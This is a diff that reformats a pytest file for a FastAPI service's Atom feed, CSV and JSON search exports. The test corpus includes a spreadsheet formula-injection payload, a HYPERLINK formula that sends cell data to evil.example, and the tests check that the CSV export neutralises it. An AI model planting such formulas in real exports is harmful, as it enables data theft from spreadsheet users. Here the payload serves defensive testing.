@@ -1,6 +1,7 @@
 """Feeds and exports of a search (/feed.atom, /export.csv, /export.json) through FastAPI's test client:
 a valid Atom 1.0 feed that readers can poll cheaply, a CSV that a spreadsheet cannot be tricked by,
 and a JSON export that is the API's own answer."""
+
 from __future__ import annotations
 
 import csv
@@ -8,7 +9,7 @@ import io
 import json
 import xml.etree.ElementTree as ET
 from collections.abc import Callable, Iterator
-from datetime import datetime, timezone
+from datetime import UTC, datetime
 from email.utils import parsedate_to_datetime
 from pathlib import Path
 from urllib.parse import unquote
@@ -18,9 +19,9 @@ from fastapi.testclient import TestClient
 
 from erfa.index import MAX_WINDOW, ProjectIndex
 from erfa.index.search import ranking
-from erfa.service.pages import i18n
 from erfa.service.api import create_app
 from erfa.service.api.routers.feeds import CSV_COLUMNS, FEED_FALLBACK, feed_size, safe_cell
+from erfa.service.pages import i18n
 from erfa.service.settings import Settings
 from tests._ops import set_close_match
 from tests.test_index import rec
@@ -31,25 +32,72 @@ NEED = "chatbot for byggesøknader"
 
 
 def when(day: int) -> datetime:
-    return datetime(2025, 3, day, 12, 0, tzinfo=timezone.utc)
+    return datetime(2025, 3, day, 12, 0, tzinfo=UTC)
 
 
 CORPUS = [
-    rec("1", "Chatbot for byggesaker", "Innbyggerne får svar på spørsmål om byggesøknader fra en chatbot døgnet rundt.",
-        organisation="Askøy kommune", country="NO", status="implemented", sector="building_maps", start_year=2021,
-        link="https://askoy.example/chatbot", updated_at=when(2)),
-    rec("2", "Taligenkänning i vården", "Läkare dikterar journalanteckningar som automatiskt blir text.",
-        organisation="Region Örebro län", country="SE", updated_at=when(9)),
-    rec("3", "Prognose for snømåking", "Vi varsler når veiene må brøytes ut fra værdata og tidligere brøyting.",
-        organisation="Tromsø kommune", country="NO", updated_at=when(5)),
-    rec("4", "Skovovervågning med satellitbilleder", "Vi finder stormfald og barkbiller i statsskovene ud fra satellitbilleder.",
-        organisation="Naturstyrelsen", country="DK", updated_at=when(1)),
-    rec("5", "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Chatbot\")", "-2+3 chatbot som svarer på byggesøknader & <b>mer</b>.",
-        organisation="@Fjordby <kommune>", country="NO", status="pilot", start_year=2023, updated_at=when(7)),
-    rec("6", "Automatisk journalføring av e-post", "Innkommende e-post arkiveres i riktig sak.", organisation="Bergen kommune",
-        country="NO", updated_at=when(3)),
-    rec("7", "Robotstøvsuger i biblioteket", "En robot som rydder bøker tilbake på hyllene.", organisation="Deichman",
-        country="NO", updated_at=when(4)),
+    rec(
+        "1",
+        "Chatbot for byggesaker",
+        "Innbyggerne får svar på spørsmål om byggesøknader fra en chatbot døgnet rundt.",
+        organisation="Askøy kommune",
+        country="NO",
+        status="implemented",
+        sector="building_maps",
+        start_year=2021,
+        link="https://askoy.example/chatbot",
+        updated_at=when(2),
+    ),
+    rec(
+        "2",
+        "Taligenkänning i vården",
+        "Läkare dikterar journalanteckningar som automatiskt blir text.",
+        organisation="Region Örebro län",
+        country="SE",
+        updated_at=when(9),
+    ),
+    rec(
+        "3",
+        "Prognose for snømåking",
+        "Vi varsler når veiene må brøytes ut fra værdata og tidligere brøyting.",
+        organisation="Tromsø kommune",
+        country="NO",
+        updated_at=when(5),
+    ),
+    rec(
+        "4",
+        "Skovovervågning med satellitbilleder",
+        "Vi finder stormfald og barkbiller i statsskovene ud fra satellitbilleder.",
+        organisation="Naturstyrelsen",
+        country="DK",
+        updated_at=when(1),
+    ),
+    rec(
+        "5",
+        '=HYPERLINK("https://evil.example/?d="&A1,"Chatbot")',
+        "-2+3 chatbot som svarer på byggesøknader & <b>mer</b>.",
+        organisation="@Fjordby <kommune>",
+        country="NO",
+        status="pilot",
+        start_year=2023,
+        updated_at=when(7),
+    ),
+    rec(
+        "6",
+        "Automatisk journalføring av e-post",
+        "Innkommende e-post arkiveres i riktig sak.",
+        organisation="Bergen kommune",
+        country="NO",
+        updated_at=when(3),
+    ),
+    rec(
+        "7",
+        "Robotstøvsuger i biblioteket",
+        "En robot som rydder bøker tilbake på hyllene.",
+        organisation="Deichman",
+        country="NO",
+        updated_at=when(4),
+    ),
 ]
 
 
@@ -131,7 +179,9 @@ def test_feed_size_follows_the_close_matches() -> None:
     assert feed_size(20, 0) == FEED_FALLBACK and feed_size(2, 0) == 2  # none close: the nearest few
 
 
-def test_the_feed_lists_the_close_matches_or_says_none_stands_out(client: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_the_feed_lists_the_close_matches_or_says_none_stands_out(
+    client: TestClient, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setattr(ranking, "CLOSE_MATCH_MIN_PASSAGES", 0)  # judge even this small corpus
     set_close_match(monkeypatch, 99.0)  # nothing stands out this far
     none = parse_feed(client.get("/feed.atom", params={"q": NEED, "lang": "sv"}).content)
@@ -151,7 +201,9 @@ def test_feed_readers_get_304_when_nothing_changed(client: TestClient) -> None:
     assert r.headers["cache-control"] == "private, max-age=300"  # the reader's cache, never a shared one
     again = client.get("/feed.atom", params={"q": NEED}, headers={"If-None-Match": etag})
     assert again.status_code == 304 and again.content == b"" and again.headers["etag"] == etag
-    assert client.get("/feed.atom", params={"q": NEED}, headers={"If-None-Match": f'"other", W/{etag}'}).status_code == 304
+    assert (
+        client.get("/feed.atom", params={"q": NEED}, headers={"If-None-Match": f'"other", W/{etag}'}).status_code == 304
+    )
     assert client.get("/feed.atom", params={"q": NEED}, headers={"If-None-Match": '"other"'}).status_code == 200
     assert client.get("/feed.atom", params={"q": NEED}, headers={"If-Modified-Since": modified}).status_code == 304
     old = "Sat, 01 Mar 2025 00:00:00 GMT"
@@ -171,7 +223,13 @@ def test_a_changed_project_changes_the_etag(client: TestClient) -> None:
 
 @pytest.mark.parametrize("path", ["/feed.atom", "/export.csv", "/export.json"])
 def test_a_bad_need_or_filter_gets_the_apis_own_422(client: TestClient, path: str) -> None:
-    for params in ({}, {"q": "   "}, {"q": "x" * 1001}, {"q": "chatbot", "status": "bogus"}, {"q": "chatbot", "year_from": "1"}):
+    for params in (
+        {},
+        {"q": "   "},
+        {"q": "x" * 1001},
+        {"q": "chatbot", "status": "bogus"},
+        {"q": "chatbot", "year_from": "1"},
+    ):
         r = client.get(path, params=params)
         api = client.get("/search", params=params)
         assert r.status_code == api.status_code == 422, params
@@ -208,16 +266,24 @@ def test_csv_export_has_a_bom_a_header_and_neutralised_formulas(client: TestClie
     assert tuple(rows[0]) == CSV_COLUMNS and len(rows) == 1 + len(CORPUS)
     by_id = {row[0]: dict(zip(CSV_COLUMNS, row)) for row in rows[1:]}
     hostile = by_id["test-5"]
-    assert hostile["title"] == "'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Chatbot\")"
+    assert hostile["title"] == '\'=HYPERLINK("https://evil.example/?d="&A1,"Chatbot")'
     assert hostile["organisation"] == "'@Fjordby <kommune>"
     assert hostile["description"].startswith("'-2+3 chatbot")
     assert hostile["erfa_url"] == "http://testserver/project/test-5"
     askoy = by_id["test-1"]
-    assert (askoy["organisation"], askoy["country"], askoy["status"], askoy["sector"], askoy["start_year"], askoy["end_year"]) \
-        == ("Askøy kommune", "NO", "implemented", "building_maps", "2021", "")
+    assert (
+        askoy["organisation"],
+        askoy["country"],
+        askoy["status"],
+        askoy["sector"],
+        askoy["start_year"],
+        askoy["end_year"],
+    ) == ("Askøy kommune", "NO", "implemented", "building_maps", "2021", "")
     assert askoy["link"] == "https://askoy.example/chatbot"
     # in ranking order, as on the results page
-    assert [row[0] for row in rows[1:]] == [h["id"] for h in client.get("/search", params={"q": NEED}).json()["results"]]
+    assert [row[0] for row in rows[1:]] == [
+        h["id"] for h in client.get("/search", params={"q": NEED}).json()["results"]
+    ]
 
 
 def test_csv_export_takes_filters_and_a_semicolon_for_nordic_excel(client: TestClient) -> None:
@@ -229,10 +295,22 @@ def test_csv_export_takes_filters_and_a_semicolon_for_nordic_excel(client: TestC
     assert client.get("/export.csv", params={"q": NEED, "limit": MAX_WINDOW + 1}).status_code == 422
 
 
-@pytest.mark.parametrize(("value", "cell"), [
-    ("=1+2", "'=1+2"), ("+47 123", "'+47 123"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
-    ("a=b", "a=b"), ("", ""), (None, ""), (2023, "2023"), ("Askøy", "Askøy"),
-])
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+2", "'=1+2"),
+        ("+47 123", "'+47 123"),
+        ("-x", "'-x"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (None, ""),
+        (2023, "2023"),
+        ("Askøy", "Askøy"),
+    ],
+)
 def test_safe_cell(value: object, cell: str) -> None:
     assert safe_cell(value) == cell
 
@@ -248,7 +326,10 @@ def test_json_export_is_the_apis_search_response(client: TestClient) -> None:
 def test_the_results_page_links_to_the_feed_and_exports(client: TestClient) -> None:
     html = client.get("/", params={"q": NEED, "country": "NO", "lang": "sv"}).text
     feed = "/feed.atom?q=chatbot+for+bygges%C3%B8knader&amp;country=NO&amp;lang=sv"
-    assert f'<link rel="alternate" type="application/atom+xml" title="Nya projekt som den här sökningen hittar" href="{feed}">' in html
+    assert (
+        f'<link rel="alternate" type="application/atom+xml" title="Nya projekt som den här sökningen hittar" href="{feed}">'
+        in html
+    )
     assert f'<a href="{feed}" type="application/atom+xml">Nyhetsflöde (Atom)</a>' in html
     assert 'href="/export.csv?q=chatbot+for+bygges%C3%B8knader&amp;country=NO&amp;sep=%3B&amp;lang=sv"' in html
     assert 'href="/export.json?q=chatbot+for+bygges%C3%B8knader&amp;country=NO&amp;lang=sv"' in html
